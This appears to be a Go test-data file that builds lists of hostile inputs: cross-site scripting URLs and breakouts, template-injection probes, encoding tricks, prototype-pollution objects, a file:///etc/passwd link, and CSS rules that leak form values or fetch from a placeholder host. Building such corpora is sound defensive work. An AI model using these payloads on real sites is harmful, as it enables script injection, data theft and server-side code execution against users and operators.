package hostile

import (
	"encoding/base64"
	"html"
	"net/url"
	"strings"
)

// addresses are links that run, or lead elsewhere than they seem to.
func addresses() []string {
	list := []string{"javascript:" + js, "JaVaScRiPt:" + js, "java\tscript:" + js, "java\nscript:" + js, "\x01javascript:" + js, " javascript:" + js, "javascript&colon;" + js,
		"&#106;avascript:" + js, "javascript://%0a" + js, "javascript:/*--></title></style></textarea>*/" + js, "vbscript:" + Canary, "data:text/html," + script,
		"data:text/html;base64," + base64.StdEncoding.EncodeToString([]byte(script)), "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='" + js + "'/>",
		"blob:" + elsewhere, "view-source:javascript:" + js, "file:///etc/passwd", "intent:" + elsewhere + "#Intent;end", "mailto:x@" + CanaryHost + "?bcc=y@" + CanaryHost,
		elsewhere, "https:" + elsewhere, "http:" + CanaryHost, "///" + CanaryHost, `\\` + CanaryHost, `/\` + CanaryHost, "/\t/" + CanaryHost, "http://127.0.0.1@" + CanaryHost,
		"http://[::1", "http://x:99999/", "?next=" + elsewhere, "#" + script}
	return append(list, `<a href="javascript:`+js+`">x</a>`, "<a href='java\nscript:"+js+"'>x</a>", "[x](javascript:"+js+")", "<"+elsewhere+"|x>")
}

// templates want to be computed: by the delimiters of template languages here, on the
// way, or in the browser.
func templates() []string {
	list := []string{"{{.}}", `{{template "head" .}}`, `{{define "head"}}x{{end}}`, "{{end}}", "{{/*", "{{html .}}", "{{printf `%1000000d` 1}}", "{{range $i := 1000000000}}x{{end}}", "}}{{",
		"{{7*191}}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{%print(7*191)%}", "[[7*191]]", "@{7*191}", "{{{7*191}}}", "%{7*191}", "`${7*191}`"}
	return append(list, "{{constructor.constructor('"+js+"')()}}", "<?php echo 7*191 ?>", "<!--#exec cmd=id -->", "{{#with x as |y|}}{{/with}}", "ng-app ng-init="+js)
}

// encoded want to be undone once too often.
func encoded() []string {
	const plain = `"><script>` + js + "</script>"
	list := []string{html.EscapeString(plain), html.EscapeString(html.EscapeString(plain)), url.QueryEscape(plain), url.QueryEscape(url.QueryEscape(plain)),
		base64.StdEncoding.EncodeToString([]byte(plain))}
	for _, e := range []struct{ less, greater, quote string }{
		{`\u003c`, `\u003e`, `\u0022`}, {`\x3c`, `\x3e`, `\x22`}, {`\74`, `\76`, `\42`}, {"&#60", "&#62", "&#34"}, {"&#x3c;", "&#x3e;", "&#x22;"}, {"&LT", "&GT", "&QUOT"},
		{"%u003c", "%u003e", "%u0022"}, {"+ADw-", "+AD4-", "+ACI-"}, {"=3C", "=3E", "=22"}, {"\xc0\xbc", "\xc0\xbe", "\xc0\xa2"}, {"\uff1c", "\uff1e", "\uff02"},
	} {
		list = append(list, strings.NewReplacer("<", e.less, ">", e.greater, `"`, e.quote).Replace(plain))
	}
	return append(list, "&", "&amp;", "&lt;", "&NewLine;&Tab;", "&#0;", "&#xD800;", "&#x80;", "&notin", "%", "%zz", "%00", `\`, `\n`, `\u{202e}`, `\x1b[2J`)
}

// scripts want to leave a string of JavaScript, of JSON, or the script as a whole.
func scripts() []string {
	var list []string
	for _, quote := range []string{`"`, `'`, "`"} {
		list = append(list, quote+";"+js+"//", `\`+quote+";"+js+"//", quote+"-("+js+")-"+quote, quote+`]}`+js+`//`)
	}
	return append(list, "\u2028"+js+"//", "\u2029"+js+"//", "//\n"+js, "*/"+js+"/*", `\u2028`+js, `","canary":"1`, `{"__proto__":{"canary":1}}`, `{"constructor":{"prototype":{"canary":1}}}`,
		"[1,2", strings.Repeat("[", 200), "1e999", "alert(1)", "import('"+elsewhere+"')", "fetch('"+elsewhere+"')", "document.title='"+Canary+"'", "event: changed\ndata: "+script, "\ndata: x\n\n", "id: 0\nretry: 1\n")
}

// styles want to be one, or to leave one.
func styles() []string {
	return []string{"}*{display:none}", "} body{visibility:hidden} {", "x:expression(" + js + ")", "background:url(javascript:" + js + ")", "background:url(" + elsewhere + ")",
		"@import url(" + elsewhere + ");", "-moz-binding:url(" + elsewhere + "#x)", "position:fixed;inset:0;z-index:9", `\3c script>`, "/*", "<style>*{display:none}</style>",
		"<style>input[value^=a]{background:url(" + elsewhere + ")}</style>", "url('", "color:red;}</style>" + image}
}
